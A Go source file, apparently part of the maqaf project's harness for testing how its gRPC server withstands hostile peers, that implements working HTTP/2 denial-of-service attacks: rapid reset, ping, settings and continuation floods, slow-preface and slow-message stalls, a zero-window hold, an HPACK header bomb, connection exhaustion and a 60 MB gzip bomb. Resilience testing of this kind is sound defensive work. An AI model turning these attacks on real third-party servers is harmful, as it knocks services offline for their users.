package main

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"

	"github.com/maqaf/maqaf/client"
	maqafv1 "github.com/maqaf/maqaf/proto/maqaf/v1"
)

// attacks are the bad peers.
var attacks = []attack{
	{name: "rapid reset", conns: 2, closes: true, strike: func(p *peer) error { // CVE-2023-44487
		id, err := p.call()
		if err != nil {
			return err
		}
		return p.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	{name: "ping flood", conns: 2, closes: true, strike: func(p *peer) error { return p.framer.WritePing(false, [8]byte{1}) }},
	{name: "settings flood", conns: 2, deaf: true, closes: true, strike: func(p *peer) error { // CVE-2019-9515
		return p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}},
	{name: "continuation flood", conns: 2, closes: true, // CVE-2024-27316
		begin: func(p *peer) error {
			return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field("x", "y")})
		},
		strike: func(p *peer) error { return p.framer.WriteContinuation(1, false, field("a", strings.Repeat("b", 100))) }},
	{name: "empty frames", conns: 2, closes: true, // CVE-2019-9518
		begin:  func(p *peer) error { _, err := p.call(); return err },
		strike: func(p *peer) error { return p.framer.WriteData(1, false, nil) }},
	{name: "fragments", conns: 2, closes: true, // CVE-2026-84304: a message of one byte a frame, in many streams
		begin: func(p *peer) error {
			for range 40 {
				id, err := p.call()
				if err != nil {
					return err
				}
				if err := p.framer.WriteData(id, false, prefix(0, 60_000)); err != nil {
					return err
				}
			}
			return nil
		},
		strike: func(p *peer) error {
			for id := uint32(1); id < 80; id += 2 {
				if err := p.framer.WriteData(id, false, []byte{0}); err != nil {
					return err
				}
			}
			return nil
		}},
	{name: "slow preface", conns: 200, bare: true, closes: true, least: 8 * time.Second, pause: time.Second,
		strike: func(p *peer) error { return p.buffer.WriteByte(http2.ClientPreface[0]) }},
	{name: "slow headers", conns: 100, pause: time.Second,
		begin: func(p *peer) error {
			return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field("x", "y")})
		},
		strike: func(p *peer) error { return p.framer.WriteContinuation(1, false, field("a", "b")) }},
	{name: "slow messages", conns: 8, pause: time.Second, // each of 100 calls promises a text and sends it a byte at a time
		begin: func(p *peer) error {
			for range 100 {
				id, err := p.call()
				if err != nil {
					return err
				}
				if err := p.framer.WriteData(id, false, prefix(0, 1<<20)); err != nil {
					return err
				}
			}
			return nil
		},
		strike: func(p *peer) error {
			for id := uint32(1); id < 200; id += 2 {
				if err := p.framer.WriteData(id, false, []byte{0}); err != nil {
					return err
				}
			}
			return nil
		}},
	{name: "window of zero", conns: 4, pause: 100 * time.Millisecond, // asks, and lets no answer through
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		strike: func(p *peer) error {
			id, err := p.call("grpc-timeout", "20S")
			if err != nil {
				return err
			}
			return p.framer.WriteData(id, true, request(strings.Repeat("Photo: EPA, 02.02.12\n", 50)))
		}},
	{name: "window updates", conns: 2, strike: func(p *peer) error { return p.framer.WriteWindowUpdate(0, 1) }},
	{name: "huge headers", conns: 2, strike: func(p *peer) error {
		_, err := p.call("x", strings.Repeat("y", 1<<20))
		return err
	}},
	{name: "header bomb", conns: 2, // names of 4,000 bytes that stand in the table and cost one byte each
		begin: func(p *peer) error { _, err := p.call("bomb", strings.Repeat("y", 3900)); return err },
		strike: func(p *peer) error {
			id := p.stream
			p.stream += 2
			return p.headers(id, bytes.Repeat([]byte{0x80 | 62}, 16<<10))
		}},
	{name: "many connections", conns: 1500, pause: time.Second},
	{name: "garbage", conns: 8, closes: true, strike: func(p *peer) error {
		junk := make([]byte, 1000)
		for i := range junk {
			junk[i] = byte(rand.Uint32())
		}
		_, err := p.buffer.Write(junk)
		return err
	}},
	{name: "half frames", conns: 8, pause: 50 * time.Millisecond, // a frame that says 16 KB, and the peer that goes away
		strike: func(p *peer) error {
			_ = p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field("x", "y"), EndHeaders: true})
			_, _ = p.buffer.Write([]byte{0, 0x40, 0, 0, 0, 0, 0, 0, 1, 'h', 'a', 'l', 'f'})
			_ = p.buffer.Flush()
			return errGone
		}},
	{name: "compressed bomb", conns: 1, pause: 50 * time.Millisecond, strike: func(p *peer) error {
		id, err := p.call("grpc-encoding", "gzip")
		if err != nil {
			return err
		}
		message := append(prefix(1, len(bomb())), bomb()...)
		return p.data(id, message)
	}},
}

var errGone = errString("the attacker goes away")

type errString string

func (e errString) Error() string { return string(e) }

// data writes a message that fits the window that a server grants at first, and what is beyond it only as far as that goes.
func (p *peer) data(id uint32, message []byte) error {
	const frame, window = 16 << 10, 65535
	message = message[:min(window, len(message))]
	for len(message) > 0 {
		part := message[:min(frame, len(message))]
		message = message[len(part):]
		if err := p.framer.WriteData(id, len(message) == 0, part); err != nil {
			return err
		}
	}
	return nil
}

// field is a header block of one field that enters no table.
func field(name, value string) []byte {
	block := []byte{0x10, byte(len(name))}
	block = append(block, name...)
	block = append(block, byte(len(value)))
	return append(block, value...)
}

// prefix is what stands before a gRPC message.
func prefix(compressed byte, size int) []byte {
	return binary.BigEndian.AppendUint32([]byte{compressed}, uint32(size))
}

// request is an AnalyzeText message with its prefix.
func request(text string) []byte {
	message, err := proto.Marshal(&maqafv1.AnalyzeTextRequest{Document: client.Text(text)})
	if err != nil {
		panic(err) // the texts are constants
	}
	return append(prefix(0, len(message)), message...)
}

// bomb is 60 MB of zeros, which gzip makes fit one window.
var bomb = sync.OnceValue(func() []byte {
	var out bytes.Buffer
	writer, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	_, _ = writer.Write(make([]byte, 60<<20))
	_ = writer.Close()
	return out.Bytes()
})
